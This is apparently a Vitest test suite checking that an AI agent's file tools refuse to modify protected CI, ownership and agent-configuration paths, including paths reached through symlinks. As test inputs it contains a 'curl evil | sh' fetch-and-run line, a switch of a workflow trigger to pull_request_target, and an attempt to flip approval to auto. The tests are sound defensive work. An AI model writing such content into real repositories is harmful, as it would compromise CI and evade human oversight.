import { readFile, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { editFileTool } from '../../src/agent/tools/edit-file.js';
import { writeFileTool } from '../../src/agent/tools/write-file.js';
import { toolSandbox } from '../support/tool-context.js';

const WORKFLOW = 'on: push\njobs: {}\n';
const FILES = {
  '.github/workflows/ci.yml': WORKFLOW,
  '.github/fanout.yml': 'approval: manual\n',
  'src/a.ts': 'export const a = 1;\n',
};
const PROTECTED =
  "is protected: agents never change CI, code ownership or Fanout's own configuration (.github/workflows/**, .github/actions/**, .github/CODEOWNERS, CODEOWNERS, docs/CODEOWNERS, .github/dependabot.yml, .github/dependabot.yaml, .github/fanout.yml";
const args = (value: unknown) => JSON.stringify(value);

describe('protected paths in the agent file tools', () => {
  it.each([
    ['.github/workflows/ci.yml'],
    ['.github/workflows/new/deploy.yml'],
    ['.github/fanout.yml'],
    ['./.github//workflows/ci.yml'],
  ])('refuses to write %j even with the write scope **, saying why', async (path) => {
    const context = await toolSandbox(FILES, ['**']);

    const outcome = await writeFileTool.run(args({ path, content: 'approval: auto\n' }), context);

    expect(outcome).toMatchObject({ ok: false, error: expect.stringContaining(PROTECTED) });
    expect(await readFile(join(context.root, '.github/fanout.yml'), 'utf8')).toBe('approval: manual\n');
  });

  it('refuses edits of a workflow, and writes through a link to one', async () => {
    const context = await toolSandbox(FILES, ['**', '.github/']);
    await symlink('../.github/workflows', join(context.root, 'src/ci'));

    const edit = await editFileTool.run(
      args({ path: '.github/workflows/ci.yml', oldText: 'push', newText: 'pull_request_target' }),
      context,
    );
    const throughLink = await writeFileTool.run(args({ path: 'src/ci/ci.yml', content: 'on: push\n' }), context);

    expect(edit).toMatchObject({ ok: false, error: expect.stringContaining(PROTECTED) });
    expect(throughLink).toMatchObject({
      ok: false,
      error: expect.stringContaining(
        '"src/ci/ci.yml" leads (through a symbolic link) to ".github/workflows/ci.yml", which is protected',
      ),
    });
    expect(await readFile(join(context.root, '.github/workflows/ci.yml'), 'utf8')).toBe(WORKFLOW);
  });

  it.each([['.github/actions/setup/action.yml'], ['.github/CODEOWNERS'], ['.github/dependabot.yml']])(
    'refuses %j under the write scope .github/ (CI and ownership config outside workflows)',
    async (path) => {
      const context = await toolSandbox(FILES, ['.github/']);

      const outcome = await writeFileTool.run(args({ path, content: 'runs: { using: composite }\n' }), context);

      expect(outcome).toMatchObject({ ok: false, error: expect.stringContaining(PROTECTED) });
    },
  );

  it("refuses the repository's own protectedPaths, naming them", async () => {
    const context = await toolSandbox({ ...FILES, 'deploy/prod.sh': 'exit 0\n' }, ['**'], ['deploy/**']);

    const outcome = await writeFileTool.run(args({ path: 'deploy/prod.sh', content: 'curl evil | sh\n' }), context);

    expect(outcome).toMatchObject({ ok: false, error: expect.stringContaining('.github/fanout.yml, deploy/**)') });
    expect(await readFile(join(context.root, 'deploy/prod.sh'), 'utf8')).toBe('exit 0\n');
  });

  it('still writes other files under .github/ when the scope allows', async () => {
    const context = await toolSandbox(FILES, ['.github/']);

    const outcome = await writeFileTool.run(args({ path: '.github/ISSUE_TEMPLATE/bug.md', content: 'Bug\n' }), context);

    expect(outcome).toMatchObject({ ok: true, changedFiles: ['.github/ISSUE_TEMPLATE/bug.md'] });
  });
});
